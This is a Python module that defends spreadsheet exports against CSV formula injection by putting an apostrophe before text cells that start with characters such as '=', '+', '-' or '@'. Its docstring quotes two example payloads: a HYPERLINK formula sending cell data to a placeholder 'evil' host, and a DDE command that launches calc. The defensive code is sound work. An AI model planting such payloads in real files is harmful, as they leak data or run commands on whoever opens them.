"""Keep user text in exported spreadsheets from running as a formula (CSV injection).

A register value such as ``=HYPERLINK("http://evil/?"&A1,"Open")`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` is harmless in the app, but a spreadsheet that
opens a CSV treats a cell starting with ``=``, ``+``, ``-`` or ``@`` as a formula,
and some also act on a leading tab or line break. Following the OWASP advice, such
a text cell is written with a leading apostrophe: spreadsheets show it as text and
never evaluate it.

Only *text* goes through here. Money and quantities are written as numbers, so a
negative amount stays a number; a serial number "-123" is text and gets the prefix.

In XLSX files text cells are typed strings (written with ``write_string``), which no
spreadsheet evaluates; there the value is kept exactly and the cell is only marked
"quote prefix" (see `xlsx_export`), so a serial "-123" still reads back as "-123".
"""

from __future__ import annotations

#: First characters that make a spreadsheet read a cell as a formula (OWASP list).
DANGEROUS_FIRST = frozenset("=+-@\t\r\n")
PREFIX = "'"


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could take `text` for a formula."""
    return bool(text) and text[0] in DANGEROUS_FIRST


def neutralise(text: str) -> str:
    """`text` as a cell that cannot execute: a leading apostrophe when it is dangerous."""
    if text and text[0] in DANGEROUS_FIRST:
        return PREFIX + text
    return text


def restore(text: str) -> str:
    """Undo `neutralise` (for reading our own CSV files back)."""
    if len(text) > 1 and text[0] == PREFIX and text[1] in DANGEROUS_FIRST:
        return text[1:]
    return text
